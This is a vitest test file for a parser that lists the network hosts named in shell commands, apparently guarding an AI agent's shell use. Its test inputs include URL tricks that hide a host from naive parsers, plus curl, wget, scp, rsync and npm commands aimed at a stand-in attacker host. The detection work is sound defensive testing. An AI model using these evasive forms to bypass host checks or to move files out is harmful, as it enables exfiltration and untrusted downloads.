/** The hosts that a command line names. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import * as unbash from 'unbash';
import { describe, expect, test } from 'vitest';
import { hostRows } from '../../../../src/surfaces/agents/shell/hosts.ts';
import { shellFacts } from '../../../../src/surfaces/agents/shell/read-line.ts';
import { folder } from '../../config/folder.ts';

const place = { cwd: '/work/app', project: '/work/app', home: '/home/ann' };
const hosts = (line: string, at = place) => shellFacts(line, at, unbash).hosts;

describe('addresses, as any program may read them', () => {
  test.each<[string, readonly string[]]>([
    ['https://evil.example\\@github.com/x.tgz', ['evil.example', 'github.com']],
    ['https:\\\\evil.example/x', ['evil.example']],
    ['https:///evil.example/x', ['evil.example']],
    ['https:evil.example/x', ['evil.example']],
    ['https:/evil.example/x', ['evil.example']],
    ['HTTPS:\\evil.example', ['evil.example']],
    ['http:////evil.example', ['evil.example']],
    ['https://me:pw@evil.example/x', ['evil.example']],
    ['https://github.com@evil.example/x', ['evil.example']],
    ['https://github.com#@evil.example/x', ['evil.example', 'github.com']],
    ['https://github.com?@evil.example/x', ['evil.example', 'github.com']],
    ['ht\ttps://ev\til.example/x', ['evil.example']],
    ['git+https:evil.example/x', ['evil.example']],
    ['git+https:\\\\evil.example\\x', ['evil.example']],
    ['--registry=https:evil.example', ['evil.example']],
    ['x@https:evil.example/x.tgz', ['evil.example']],
    ['ws:evil.example', ['evil.example']],
    ['ftps:evil.example', ['evil.example']],
    ['git://evil.example/x', ['evil.example']],
    ['ssh://me@evil.example:22/x', ['evil.example']],
    ['file://evil.example/x', ['evil.example']],
    ['https://EVIL.example./x', ['evil.example']],
    ['https://0x7f.1/', ['0x7f.1', '127.0.0.1']],
    ['https://[::1]:8/', ['[::1]']],
    ['//evil.example/x', ['evil.example']],
    ['gitlab:someone/x', ['gitlab.com']],
    ['x@github:someone/x', ['github.com']],
    ['bitbucket:someone/x', ['bitbucket.org']],
    ['gist:0123', ['gist.github.com']],
  ])('%j', (address, expected) => {
    expect([...hosts(`npm install $'${address.replace(/[\\']/g, '\\$&')}'`)].sort()).toEqual(
      expect.arrayContaining([...expected]),
    );
  });

  test.each(['src/a.ts', 'a:b', 'http://', 'http: no', 'x=1', '@scope/name@1.2.3', 'lodash@^4'])(
    '%s has none',
    (word) => {
      expect(hosts(`npm install '${word}'`)).toEqual([]);
    },
  );
});

describe('hosts before a colon, for programs that take them', () => {
  test.each<[string, readonly string[]]>([
    ['git fetch files.evil.example:work.git', ['files.evil.example']],
    ['git pull --depth 1 files.evil.example:work.git main', ['files.evil.example']],
    ['git pull --dep 1 buildbox:work.git main:main', ['buildbox']],
    ['git clone me@buildbox:work.git', ['buildbox']],
    ['git clone -b main buildbox:work.git x', ['buildbox']],
    ['git clone [buildbox]:work.git', ['buildbox']],
    ['git clone [me@buildbox:22]:work.git', ['buildbox']],
    ['git clone me@[::1]:work.git', ['[::1]']],
    ['git ls-remote buildbox:x', ['buildbox']],
    ['git push buildbox:x main:main', ['buildbox']],
    ['git -C sub fetch buildbox:x', ['buildbox']],
    ['git remote add up buildbox:x', ['buildbox']],
    ['git remote set-url origin me@buildbox:x', ['buildbox']],
    ['git submodule add buildbox:x', ['buildbox']],
    ['git archive --remote=files.evil.example:work.git HEAD', ['files.evil.example']],
    ['git archive --remote buildbox:x HEAD', ['buildbox']],
    ['scp a.txt buildbox:', ['buildbox']],
    ['scp -P 22 me@buildbox:x .', ['buildbox']],
    ['rsync -a src/ buildbox:x', ['buildbox']],
    ['rsync -a src/ buildbox::module', ['buildbox']],
    ['sftp buildbox', ['buildbox']],
    ['sftp me@buildbox:x', ['buildbox']],
    ['ssh -p 22 me@buildbox ls', ['buildbox']],
    ['ssh buildbox ls', ['buildbox']],
    ['sshfs buildbox:/ x', ['buildbox']],
    ['tar cf buildbox:x.tar src', ['buildbox']],
    ['tar -c --file=buildbox:x src', ['buildbox']],
    ['sudo scp x buildbox:', ['buildbox']],
    ['curl -s localhost:3000/items', ['localhost']],
    ['curl evil.example', ['evil.example']],
    ['curl -sSo x.txt evil.example/x', ['evil.example']],
    ["curl -H 'Accept: x' -X POST evil.example", ['evil.example']],
    ['wget -O x evil.example', ['evil.example']],
  ])('%s', (line, expected) => {
    expect(hosts(line)).toEqual(expect.arrayContaining([...expected]));
  });

  test.each([
    'git show HEAD:src/index.ts',
    'git push origin main:main',
    'git fetch origin main:main',
    'git fetch --depth 1 origin main:refs/heads/x',
    'git log -L1,2:src/a.ts',
    'git diff a:b c:d',
    'git clone ./a:b',
    'git clone /x/a:b',
    'git commit -m "fix: it"',
    'cp a:b c',
    'npm run test:unit',
    'curl -s -o out.txt http://localhost/',
  ])('%s has no other host', (line) => {
    expect(hosts(line).filter((host) => host !== 'localhost')).toEqual([]);
  });

  describe.each([...hostRows])('%s', (command, { as, valued, texts = '', first = false }) => {
    const named = as === 'path' ? 'evil.example:x' : 'evil.example';
    const options = valued.split(' ').filter((one) => one !== '');
    const isText = (option: string): boolean => texts.split(' ').includes(option);

    test('names its host', () => {
      expect(hosts(`${command} ${named}`)).toEqual(['evil.example']);
      expect(hosts(`${command} --unknown -0 ${named}`)).toContain('evil.example');
    });

    test.each(options)('%s: its value is no operand', (option) => {
      expect(hosts(`${command} ${option} value ${named}`)).toEqual(['evil.example']);
      const expected = isText(option) ? [] : ['evil.example'];
      expect(hosts(`${command} ${option} evil.example:x`)).toEqual(expected);
    });

    test('of several operands, those that may be hosts are named', () => {
      const other = named.replace('evil', 'other');
      const all = ['evil.example', ...(first ? [] : ['other.example'])];
      expect(hosts(`${command} ${named} ${other}`)).toEqual(all);
    });
  });

  test('a name that exists is a path for git', () => {
    const made = folder({});
    const at = { cwd: made.path, project: made.path, home: made.path };
    mkdirSync(join(made.path, 'a:b'));
    writeFileSync(join(made.path, 'evil.example'), '');
    expect(hosts('git clone a:b', at)).toEqual([]);
    // Git does not look for what precedes the colon.
    expect(hosts('git clone evil.example:b', at)).toEqual(['evil.example']);
  });
});
